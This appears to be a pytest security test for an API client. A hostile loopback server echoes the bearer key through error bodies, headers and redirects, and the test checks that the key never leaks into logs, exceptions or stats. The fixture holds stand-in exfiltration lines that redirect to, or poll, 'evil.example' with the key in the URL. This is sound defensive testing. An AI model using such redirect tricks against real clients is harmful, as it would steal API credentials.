"""No client error path leaks the API key: not in logs, exception str/repr, or stats (CONTRACT §6).

A hostile server on loopback echoes the Authorization header back in every place it can (error messages,
plain-text bodies, the request-id header, redirect Locations); the client is driven through each error
path with a canary key. Raw structlog events are checked before any redaction processor runs (our code
must not leak on its own), and the rendered output of ``watcher.logs`` is checked as an operator sees it.
"""

from __future__ import annotations

import asyncio
import io
import logging
import secrets
import socket
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from typing import Any

import pytest
import structlog
from aiohttp import web

from tests.fakes import FakeClock
from watcher import logs as watcher_logs
from watcher.api import FloraClient
from watcher.errors import (
    ApiError,
    ApiUnavailableError,
    AuthError,
    BadResponseError,
    ForeignOriginError,
    NotFoundError,
    RateLimitedError,
    ServerError,
)
from watcher.secret import Secret

CANARY = f"sk_live_CANARY{secrets.token_hex(12)}"


def envelope(status: int, code: str, message: str, **headers: str) -> web.Response:
    body = {"error": {"code": code, "message": message, "fields": [{"field": "auth", "message": message}]}}
    return web.json_response(body, status=status, headers=headers)


async def hostile(request: web.Request) -> web.StreamResponse:
    auth = request.headers.get("Authorization", "")
    echo = f"you sent {auth!r} ({auth.removeprefix('Bearer ')})"
    mode = request.match_info["mode"]
    rid = {"request-id": f"req_{auth.removeprefix('Bearer ')}"}
    if mode == "401":
        return envelope(401, "invalid_api_key", echo, **rid)
    if mode == "403":
        return web.Response(status=403, text=f"<html>Forbidden: {echo}</html>", headers=rid)
    if mode in ("404", "runs", "techniques"):
        return envelope(404, "not_found", echo, **rid)
    if mode == "429":
        return envelope(429, "rate_limited", echo, **{"Retry-After": "0", **rid})
    if mode == "500":
        return envelope(500, "unknown_error", echo, **rid)
    if mode == "502":
        return web.Response(status=502, text=f"Bad Gateway {echo}", content_type="text/plain", headers=rid)
    if mode == "nonjson":
        return web.Response(status=200, text=f"not json {echo}", headers=rid)
    if mode == "shape":
        return web.json_response({"technique_runs": echo, "meta": {"next_cursor": echo}}, headers=rid)
    if mode == "badrun":
        return web.json_response({"runs": [echo], "status": 5}, headers=rid)
    if mode == "slow":
        await asyncio.sleep(2)
        return web.json_response({})
    if mode == "redirect-foreign":
        raise web.HTTPFound(f"https://evil.example/collect?key={auth.removeprefix('Bearer ')}", headers=rid)
    if mode == "redirect-same":
        raise web.HTTPTemporaryRedirect(f"/api/v1/elsewhere?key={auth.removeprefix('Bearer ')}", headers=rid)
    return envelope(400, "input_validation_error", echo, **rid)


@pytest.fixture
async def server() -> AsyncIterator[str]:
    app = web.Application()
    app.router.add_route("*", "/api/v1/{mode}/{tail:.*}", hostile)
    app.router.add_route("*", "/api/v1/{mode}", hostile)
    runner = web.AppRunner(app, shutdown_timeout=0.1, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    await runner.cleanup()


def closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class Driver:
    def __init__(self, origin: str) -> None:
        self.origin = origin

    def client(self, mode: str | None = None, **kw: Any) -> FloraClient:
        base = kw.pop("base_url", f"{self.origin}/api/v1/{mode}" if mode else f"{self.origin}/api/v1")
        kw.setdefault("max_retries", 1)
        kw.setdefault("timeout", 0.2)
        return FloraClient(base, Secret(CANARY), clock=FakeClock(), **kw)


Scenario = Callable[[Driver], Awaitable[tuple[FloraClient, Any]]]


async def via_list(client: FloraClient) -> Any:
    return [r async for r in client.list_runs(project_id="prj_x")]


def listing(mode: str) -> Scenario:
    async def go(d: Driver) -> tuple[FloraClient, Any]:
        client = d.client(mode)
        return client, via_list(client)

    return go


async def get_run_mode(d: Driver, mode: str) -> tuple[FloraClient, Any]:
    client = d.client()
    return client, client.get_run("run_1", poll_url=f"{d.origin}/api/v1/{mode}/x?token={CANARY}")


async def timeout(d: Driver) -> tuple[FloraClient, Any]:
    client = d.client("slow")
    return client, via_list(client)


async def refused(d: Driver) -> tuple[FloraClient, Any]:
    client = d.client(base_url=f"http://127.0.0.1:{closed_port()}/api/v1")
    return client, via_list(client)


async def foreign_poll_url(d: Driver) -> tuple[FloraClient, Any]:
    client = d.client("404")
    return client, client.get_run("run_1", poll_url=f"https://evil.example/p?key={CANARY}", technique_id="t")


async def start_run_400(d: Driver) -> tuple[FloraClient, Any]:
    client = d.client("bad")
    return client, client.start_run("t", [{"id": "prompt", "type": "text", "value": CANARY[:4]}])


SCENARIOS: dict[str, tuple[Scenario, type[ApiError]]] = {
    "401": (listing("401"), AuthError),
    "403": (listing("403"), AuthError),
    "404": (listing("404"), NotFoundError),
    "429": (listing("429"), RateLimitedError),
    "500": (listing("500"), ServerError),
    "502": (listing("502"), ServerError),
    "non-json": (listing("nonjson"), BadResponseError),
    "wrong-shape": (listing("shape"), BadResponseError),
    "bad-run": (lambda d: get_run_mode(d, "badrun"), BadResponseError),
    "timeout": (timeout, ApiUnavailableError),
    "connection-refused": (refused, ApiUnavailableError),
    "redirect-foreign": (listing("redirect-foreign"), ForeignOriginError),
    "redirect-same-origin": (listing("redirect-same"), BadResponseError),
    "poll-url-404": (lambda d: get_run_mode(d, "404"), NotFoundError),
    "foreign-poll-url": (foreign_poll_url, NotFoundError),
    "client-error": (start_run_400, ApiError),
}


@pytest.fixture
def rendered_logs() -> Iterator[io.StringIO]:
    """watcher.logs (JSON, debug) into a buffer, plus a raw copy of every event before redaction."""
    root = logging.getLogger()
    saved = (list(root.handlers), root.level)
    stream = io.StringIO()
    raw: list[str] = []
    watcher_logs.configure(fmt="json", level="debug", stream=stream)
    config = structlog.get_config()

    def keep_raw(_logger: Any, _method: str, event: dict[str, Any]) -> dict[str, Any]:
        raw.append(repr(event))
        return event

    structlog.configure(processors=[keep_raw, *config["processors"]])
    stream.raw = raw  # type: ignore[attr-defined]
    yield stream
    structlog.reset_defaults()
    root.handlers[:] = saved[0]
    root.setLevel(saved[1])


def chain(exc: BaseException | None) -> list[BaseException]:
    seen = []
    while exc is not None and exc not in seen:
        seen.append(exc)
        exc = exc.__cause__ or exc.__context__
    return seen


@pytest.mark.parametrize("name", list(SCENARIOS))
async def test_no_error_path_leaks_the_key(
    name: str, server: str, rendered_logs: io.StringIO, capsys: pytest.CaptureFixture[str]
) -> None:
    scenario, expected = SCENARIOS[name]
    client, call = await scenario(Driver(server))
    try:
        with pytest.raises(expected) as info:
            await call
    finally:
        await client.close()

    error = info.value
    texts = [str(e) for e in chain(error)] + [repr(e) for e in chain(error)]
    texts += [str(error.code), str(error.request_id), error.message]
    texts += [repr(client.stats), repr(client.stats.snapshot()), repr(client)]
    texts += rendered_logs.raw  # type: ignore[attr-defined]
    captured = capsys.readouterr()
    texts += [rendered_logs.getvalue(), captured.out, captured.err]
    leaks = [t for t in texts if "CANARY" in t]
    assert not leaks, f"{name}: the key leaked: {leaks[0][:300]}"
    assert rendered_logs.raw, "the failure was logged"  # type: ignore[attr-defined]


async def test_the_hostile_server_really_echoes_the_key(server: str) -> None:
    """Sanity check of the fixture: without redaction, the key would be in the error."""
    import aiohttp

    async with aiohttp.ClientSession() as session:
        async with session.get(f"{server}/api/v1/401", headers={"Authorization": f"Bearer {CANARY}"}) as resp:
            assert CANARY in await resp.text() and CANARY in resp.headers["request-id"]
